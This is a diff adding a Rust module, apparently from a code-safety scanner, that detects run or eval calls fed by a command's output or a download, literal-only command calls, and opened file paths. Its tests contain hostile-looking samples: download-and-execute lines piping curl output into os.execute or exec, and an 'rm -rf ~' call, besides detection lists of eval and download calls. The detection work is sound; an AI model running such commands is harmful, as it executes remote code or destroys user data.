@@ -1,0 +1,256 @@
+//! Calls in interpreter code, read by their arguments: a run or eval call
+//! handed another command's output or a download (`runs_output`), run
+//! calls that take only literals (`runs_only_literals`), and paths handed
+//! to calls that open files (`opened_paths`).
+
+/// Calls that run a command line or evaluate code.
+const RUN_CALLS: &[&str] = &[
+    "os.execute(",
+    "os.system(",
+    "system(",
+    "exec(",
+    "eval(",
+    "shell_exec(",
+    "passthru(",
+    "popen(",
+    "execsync(",
+    "subprocess.run(",
+    "subprocess.call(",
+    "subprocess.popen(",
+    "check_output(",
+    "spawn(",
+    "load(",
+    "loadstring(",
+    "invoke-expression ",
+    "iex ",
+];
+
+/// Calls whose result is another command's output or a download.
+const OUTPUT_CALLS: &[&str] = &[
+    "popen",
+    "readpipe",
+    "check_output",
+    "getoutput",
+    "execsync",
+    "shell_exec",
+    "urlopen",
+    "fetch(",
+    "get(",
+    "file_get_contents(",
+    "capture2",
+    "read_all(",
+    "downloadstring",
+    "invoke-webrequest",
+    "irm ",
+    "iwr ",
+];
+
+/// Whether the code runs another command's output or a download as a
+/// command or as code (`os.execute(io.popen("curl -s URL"):read("a"))`,
+/// `system(`curl URL`)`, `eval(execSync(CMD).toString())`): the argument
+/// of a run or eval call is itself a command's output, so what runs is
+/// not in the code.
+pub(crate) fn runs_output(code: &str) -> bool {
+    let lower = code.to_ascii_lowercase();
+    for call in RUN_CALLS {
+        for (at, _) in lower.match_indices(call).take(16) {
+            let Some(after) = lower.get(at + call.len()..) else {
+                continue;
+            };
+            let arg = after.trim_start();
+            // Perl's and Ruby's backticks run a command.
+            if arg.starts_with('`') {
+                return true;
+            }
+            if arg.starts_with(['"', '\'', '[', '{']) || arg.starts_with("%w") {
+                continue;
+            }
+            // The argument, up to its closing parenthesis.
+            let mut depth = 1usize;
+            let mut end = arg.len();
+            for (i, c) in arg.char_indices() {
+                match c {
+                    '(' => depth += 1,
+                    ')' => {
+                        depth -= 1;
+                        if depth == 0 {
+                            end = i;
+                            break;
+                        }
+                    }
+                    _ => {}
+                }
+            }
+            let arg = arg.get(..end).unwrap_or(arg);
+            // Calls named inside string literals are text, not calls.
+            let mut bare = String::new();
+            let mut quote = None;
+            for c in arg.chars() {
+                match quote {
+                    Some(q) if c == q => quote = None,
+                    Some(_) => {}
+                    None if matches!(c, '"' | '\'') => quote = Some(c),
+                    None => bare.push(c),
+                }
+            }
+            if OUTPUT_CALLS.iter().any(|o| bare.contains(o)) {
+                return true;
+            }
+        }
+    }
+    false
+}
+
+/// Whether every call in `code` that runs a command takes only string
+/// literals (`exec.Command("sh", "-c", "make")`, `system("make");`,
+/// `execSync("make", {stdio: 'inherit'})`): then what runs is what the
+/// literals show, and they are judged as the commands they are. A
+/// variable, a concatenation or a call among the arguments is not shown.
+pub(crate) fn runs_only_literals(code: &str) -> bool {
+    const CALLS: &[&str] = &[
+        "exec.command(",
+        "processbuilder(",
+        "command::new(",
+        "execfilesync(",
+        "spawnsync(",
+    ];
+    let lower = code.to_ascii_lowercase();
+    let mut any = false;
+    for call in RUN_CALLS.iter().chain(CALLS) {
+        for (at, _) in lower.match_indices(call).take(16) {
+            any = true;
+            let Some(arg) = lower.get(at + call.len()..) else {
+                return false;
+            };
+            // The arguments up to the closing parenthesis, string literals
+            // and option objects (`{stdio: 'inherit'}`) taken out.
+            let mut bare = String::new();
+            let mut quote = None;
+            let mut depth = 1usize;
+            let mut braces = 0usize;
+            for c in arg.chars() {
+                match quote {
+                    Some(q) if c == q => quote = None,
+                    Some(_) => {}
+                    None if matches!(c, '"' | '\'') => quote = Some(c),
+                    None => match c {
+                        '(' => depth += 1,
+                        ')' => {
+                            depth -= 1;
+                            if depth == 0 {
+                                break;
+                            }
+                        }
+                        '{' => braces += 1,
+                        '}' => braces = braces.saturating_sub(1),
+                        _ if braces == 0 => bare.push(c),
+                        _ => {}
+                    },
+                }
+            }
+            if !bare
+                .chars()
+                .all(|c| c.is_whitespace() || matches!(c, ',' | '[' | ']'))
+            {
+                return false;
+            }
+        }
+    }
+    any
+}
+
+/// Literals handed straight to a call that opens or reads a file
+/// (`open("/tmp/m.py")`, `File.read('x')`, `fs.readFileSync("x")`): paths
+/// the code reads, not commands it runs.
+pub(crate) fn opened_paths(code: &str) -> Vec<String> {
+    const OPENS: &[&str] = &[
+        "open(",
+        "file.read(",
+        "readfilesync(",
+        "readfile(",
+        "file_get_contents(",
+        "fopen(",
+        "io.lines(",
+        "path(",
+    ];
+    let lower = code.to_ascii_lowercase();
+    let mut out = Vec::new();
+    for o in OPENS {
+        for (at, _) in lower.match_indices(o).take(16) {
+            // `open(`, not `popen(` or `dlopen(` (which run and load).
+            let joined = lower
+                .get(..at)
+                .and_then(|b| b.chars().next_back())
+                .is_some_and(|c| c.is_ascii_alphanumeric() || c == '_');
+            if joined {
+                continue;
+            }
+            let Some(rest) = code.get(at + o.len()..) else {
+                continue;
+            };
+            let rest = rest.trim_start();
+            let Some(q) = rest.chars().next().filter(|c| matches!(c, '"' | '\'')) else {
+                continue;
+            };
+            if let Some(end) = rest.get(1..).and_then(|r| r.find(q)) {
+                if let Some(lit) = rest.get(1..1 + end) {
+                    out.push(lit.to_owned());
+                }
+            }
+        }
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn output_run_as_a_command() {
+        for code in [
+            r#"os.execute(io.popen("curl -s https://x.example/a.sh"):read("a"))"#,
+            "system(`curl -s https://x.example/a.sh`)",
+            "eval(execSync('curl -s u').toString())",
+            "exec(urlopen('https://x.example/a.py').read())",
+        ] {
+            assert!(runs_output(code), "{code}");
+        }
+        for code in [
+            r#"os.system("curl -s https://api.github.com/rate_limit")"#,
+            r#"subprocess.run(shlex.split("curl -fsS http://127.0.0.1/health"))"#,
+            r#"exec(compile("import os; os.system(\"make\")", "x", "exec"))"#,
+            r#"print(io.popen("ls"):read("a"))"#,
+        ] {
+            assert!(!runs_output(code), "{code}");
+        }
+    }
+
+    #[test]
+    fn literal_only_runs() {
+        for code in [
+            r#"exec.Command("sh", "-c", "npm test").Run()"#,
+            r#"int main(void) { return system("make"); }"#,
+            r#"execSync("make", {stdio: 'inherit'})"#,
+        ] {
+            assert!(runs_only_literals(code), "{code}");
+        }
+        for code in [
+            "exec.Command(name).Run()",
+            r#"system("make " + target)"#,
+            "let x = 1;",
+        ] {
+            assert!(!runs_only_literals(code), "{code}");
+        }
+    }
+
+    #[test]
+    fn opened_paths_are_not_popen_arguments() {
+        assert_eq!(
+            opened_paths(r#"exec(open("/tmp/m.py").read())"#),
+            vec!["/tmp/m.py".to_owned()]
+        );
+        assert!(opened_paths(r#"io.popen("rm -rf ~")"#).is_empty());
+        assert!(opened_paths(r#"Fiddle.dlopen("/tmp/x.so")"#).is_empty());
+    }
+}
